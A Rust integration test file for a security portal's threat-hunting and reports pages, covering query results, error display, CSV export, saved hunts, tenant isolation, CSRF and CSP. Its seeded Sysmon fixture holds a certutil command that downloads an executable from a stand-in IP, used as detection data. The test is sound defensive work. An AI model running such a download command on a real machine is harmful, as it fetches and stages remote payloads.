//! The portal's hunting and reports pages over HTTP: an analyst runs a
//! query and sees its rows, a query error is shown with its position,
//! saved hunts and summaries, the CSV download, the reports with their
//! headline figures, and tenant scope (404 for another tenant's pages).

mod support;

use reqwest::StatusCode;
use reqwest::header::{CONTENT_SECURITY_POLICY, CONTENT_TYPE, COOKIE, LOCATION};
use support::{PASSWORD, TestApp, spawn_app};
use vigil_core::identity::{Principal, Role};
use vigil_service::{Intake, Record};

const ANALYST: &str = "analyst@provider.example";
const CUSTOMER: &str = "soc@acme.example";

fn op() -> Principal {
    Principal::Operator("test".into())
}

/// A certutil download on ws-01 in acme, an analyst and an acme customer.
async fn seeded() -> TestApp {
    let app = spawn_app().await;
    let line = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"TimeCreated":{"#attributes":{"SystemTime":"2026-11-27T08:00:00.000000Z"}},"EventRecordID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws-01"},"EventData":{"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://203.0.113.7/p.exe","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"CORP\\alice"}}}"##;
    app.service
        .ingest(
            &op(),
            Some("acme"),
            Intake {
                source: "test".into(),
                records: vec![Record {
                    at: vigil_service::At::Line(1),
                    bytes: line.as_bytes().to_vec(),
                }],
                ..Default::default()
            },
        )
        .await
        .expect("ingest");
    app.user(ANALYST, Role::Analyst, None).await;
    app.user(CUSTOMER, Role::CustomerAdmin, Some("acme")).await;
    app
}

/// A signed-in session: (cookie header, CSRF token).
async fn session(app: &TestApp, email: &str) -> (String, String) {
    let signed = app
        .service
        .login(email, PASSWORD, "test")
        .await
        .expect("login");
    let secret = signed.secret.expose().to_owned();
    (
        format!("vigil_session={secret}"),
        vigil_service::csrf_token(&secret),
    )
}

async fn get(app: &TestApp, cookie: &str, path: &str) -> (StatusCode, String) {
    let r = app
        .client()
        .get(app.url(path))
        .header(COOKIE, cookie)
        .send()
        .await
        .expect("get");
    (r.status(), r.text().await.expect("body"))
}

fn hunt_path(query: &str, all: bool) -> String {
    let mut url = reqwest::Url::parse("http://x/t/acme/hunt").expect("url");
    url.query_pairs_mut().append_pair("q", query);
    if all {
        url.query_pairs_mut().append_pair("all", "1");
    }
    format!("{}?{}", url.path(), url.query().unwrap_or_default())
}

#[tokio::test]
async fn an_analyst_runs_a_query_in_the_hunting_editor_and_sees_its_rows() {
    let app = seeded().await;
    let (analyst, _) = session(&app, ANALYST).await;
    let q =
        "DeviceProcessEvents | where FileName =~ 'certutil.exe' | project DeviceName, AccountName";
    let (status, html) = get(&app, &analyst, &hunt_path(q, false)).await;
    assert_eq!(status, StatusCode::OK, "{html}");
    assert!(html.contains("<table id=\"hunt-results\">"), "{html}");
    assert!(html.contains("<th scope=\"col\" title=\"string\">DeviceName</th>"));
    assert!(html.contains("<td>ws-01</td><td>alice</td>"), "{html}");
    assert!(html.contains("1 row(s)"), "the stats line: {html}");
    assert!(html.contains("last 7d"), "the default lookback is named");
    assert!(
        html.contains("FileName =~ &#x27;certutil.exe&#x27;"),
        "the query stays in the editor"
    );
}

#[tokio::test]
async fn a_provider_wide_hunt_names_each_rows_tenant() {
    let app = seeded().await;
    let (analyst, _) = session(&app, ANALYST).await;
    let q = "DeviceProcessEvents | project DeviceName";
    let (status, html) = get(&app, &analyst, &hunt_path(q, true)).await;
    assert_eq!(status, StatusCode::OK, "{html}");
    assert!(html.contains(">Tenant</th>"), "{html}");
    assert!(html.contains("<tr><td>acme</td><td>"), "{html}");
    assert!(html.contains("<td>ws-01</td></tr>"), "{html}");
    assert!(html.contains("2 tenant(s)"), "{html}");
}

#[tokio::test]
async fn a_query_error_in_the_editor_is_shown_with_its_line_and_column() {
    let app = seeded().await;
    let (analyst, _) = session(&app, ANALYST).await;
    let (status, html) = get(
        &app,
        &analyst,
        &hunt_path("DeviceProcessEvents\n| summarize count() DeviceName", false),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        html.contains("Query error at line 2, column 21: expected `by` or end of `summarize`, found `DeviceName`"),
        "{html}"
    );
    assert!(html.contains("aria-invalid=\"true\""));
    assert!(!html.contains("hunt-results"));
}

#[tokio::test]
async fn the_hunting_csv_download_carries_the_whole_result() {
    let app = seeded().await;
    let (analyst, _) = session(&app, ANALYST).await;
    let path = hunt_path(
        "DeviceProcessEvents | project DeviceName, AccountName",
        false,
    )
    .replacen("/hunt?", "/hunt.csv?", 1);
    let r = app
        .client()
        .get(app.url(&path))
        .header(COOKIE, &analyst)
        .send()
        .await
        .expect("get");
    assert_eq!(r.status(), StatusCode::OK);
    assert!(
        r.headers()[CONTENT_TYPE]
            .to_str()
            .expect("type")
            .starts_with("text/csv")
    );
    assert_eq!(
        r.text().await.expect("csv"),
        "DeviceName,AccountName\r\nws-01,alice\r\n"
    );
}

#[tokio::test]
async fn an_analyst_saves_a_scheduled_hunt_writes_a_summary_and_deletes_the_hunt() {
    let app = seeded().await;
    let (analyst, csrf) = session(&app, ANALYST).await;
    let r = app
        .client()
        .post(app.url("/t/acme/hunts"))
        .header(COOKIE, &analyst)
        .form(&[
            ("csrf", csrf.as_str()),
            ("name", "certutil downloads"),
            (
                "query",
                "DeviceProcessEvents | where FileName =~ 'certutil.exe'",
            ),
            ("every", "60"),
            ("lookback", "120"),
        ])
        .send()
        .await
        .expect("save");
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let saved = app.service.saved_hunts(&op(), "acme").await.expect("saved");
    assert_eq!(saved.len(), 1);
    let schedule = saved[0].schedule.expect("scheduled");
    assert_eq!(
        (schedule.interval_secs, schedule.lookback_secs),
        (3600, 7200)
    );
    let (_, html) = get(&app, &analyst, "/t/acme/hunt").await;
    assert!(html.contains("certutil downloads"), "{html}");
    assert!(html.contains("every 60 min over 120 min"), "{html}");

    let r = app
        .client()
        .post(app.url("/t/acme/hunt/summaries"))
        .header(COOKIE, &analyst)
        .form(&[
            ("csrf", csrf.as_str()),
            ("what", "certutil used as a downloader"),
            ("why", "a common living-off-the-land step"),
            ("result", "one download on ws-01"),
            ("determination", "suspicious"),
        ])
        .send()
        .await
        .expect("summary");
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, html) = get(&app, &analyst, "/t/acme/hunt").await;
    assert!(
        html.contains("<strong>suspicious</strong> · certutil used as a downloader"),
        "{html}"
    );

    let r = app
        .client()
        .post(app.url(&format!("/t/acme/hunts/{}/delete", saved[0].id)))
        .header(COOKIE, &analyst)
        .form(&[("csrf", "not-the-token")])
        .send()
        .await
        .expect("delete");
    assert_eq!(
        r.status(),
        StatusCode::FORBIDDEN,
        "a form without the token"
    );
    let r = app
        .client()
        .post(app.url(&format!("/t/acme/hunts/{}/delete", saved[0].id)))
        .header(COOKIE, &analyst)
        .form(&[("csrf", csrf.as_str())])
        .send()
        .await
        .expect("delete");
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    assert_eq!(r.headers()[LOCATION], "/t/acme/hunt");
    assert!(
        app.service
            .saved_hunts(&op(), "acme")
            .await
            .expect("saved")
            .is_empty()
    );
}

#[tokio::test]
async fn a_customer_gets_404_for_the_hunting_and_reports_pages_of_another_tenant() {
    let app = seeded().await;
    let (customer, csrf) = session(&app, CUSTOMER).await;
    for path in [
        "/t/globex/hunt",
        "/t/globex/hunt.csv?q=DeviceProcessEvents",
        "/t/globex/reports",
        "/t/nonexistent/reports",
    ] {
        let (status, _) = get(&app, &customer, path).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{path}");
    }
    let r = app
        .client()
        .post(app.url("/t/globex/hunts"))
        .header(COOKIE, &customer)
        .form(&[
            ("csrf", csrf.as_str()),
            ("name", "x"),
            ("query", "DeviceProcessEvents"),
        ])
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn a_customer_may_not_hunt_even_in_its_own_tenant_nor_see_the_provider_report() {
    let app = seeded().await;
    let (customer, _) = session(&app, CUSTOMER).await;
    for path in ["/hunt", "/t/acme/hunt", "/reports"] {
        let (status, html) = get(&app, &customer, path).await;
        eprintln!("{path}: {status}");
        assert!(
            matches!(status, StatusCode::FORBIDDEN | StatusCode::NOT_FOUND),
            "{path}: {status}"
        );
        assert!(!html.contains("hunt-results"));
    }
    let (_, home) = get(&app, &customer, "/").await;
    assert!(
        !home.contains("Hunting"),
        "no hunting entry in a customer's navigation"
    );
    assert!(
        home.contains("href=\"/t/acme/reports\""),
        "the customer's reports entry"
    );
}

#[tokio::test]
async fn a_customer_sees_its_own_service_report_with_the_headline_figures_and_the_links() {
    let app = seeded().await;
    let (customer, _) = session(&app, CUSTOMER).await;
    let (status, html) = get(
        &app,
        &customer,
        "/t/acme/reports?from=2026-11-01&to=2026-11-27",
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{html}");
    assert!(html.contains("id=\"fig-investigated\">0</dd>"), "{html}");
    assert!(html.contains("value=\"2026-11-01\""), "{html}");
    assert!(
        html.contains("href=\"/api/v1/tenants/acme/reports/service?format=pdf&amp;from=2026-11-01&amp;to=2026-11-27\""),
        "{html}"
    );
    let (status, html) = get(&app, &customer, "/t/acme/reports?from=yesterday").await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{html}");
}

#[tokio::test]
async fn the_provider_reports_page_lists_every_tenant_with_a_link_to_its_report() {
    let app = seeded().await;
    let (analyst, _) = session(&app, ANALYST).await;
    let (status, html) = get(&app, &analyst, "/reports").await;
    assert_eq!(status, StatusCode::OK, "{html}");
    assert!(html.contains("<td>Acme</td>"), "{html}");
    assert!(html.contains("<td>Globex</td>"), "{html}");
    assert!(html.contains("href=\"/t/globex/reports\""), "{html}");
    let (status, html) = get(&app, &analyst, "/t/globex/reports").await;
    assert_eq!(status, StatusCode::OK, "{html}");
    assert!(html.contains("Service report of Globex"));
}

#[tokio::test]
async fn the_hunting_and_reports_pages_carry_the_strict_policy_and_no_inline_script() {
    let app = seeded().await;
    let (analyst, _) = session(&app, ANALYST).await;
    let (customer, _) = session(&app, CUSTOMER).await;
    let pages = [
        (&analyst, "/hunt".to_owned()),
        (&analyst, hunt_path("DeviceProcessEvents | take 5", false)),
        (&analyst, "/reports".to_owned()),
        (&analyst, "/t/acme/reports".to_owned()),
        (&customer, "/t/acme/reports".to_owned()),
    ];
    for (cookie, path) in pages {
        let r = app
            .client()
            .get(app.url(&path))
            .header(COOKIE, cookie.as_str())
            .send()
            .await
            .expect("get");
        assert_eq!(r.status(), StatusCode::OK, "{path}");
        let csp = r.headers()[CONTENT_SECURITY_POLICY]
            .to_str()
            .expect("csp")
            .to_owned();
        assert!(!csp.contains("unsafe-inline"), "{path}");
        let html = r.text().await.expect("html");
        assert!(!html.contains(" style="), "{path}");
        assert!(!html.contains("<script>"), "{path}");
    }
}
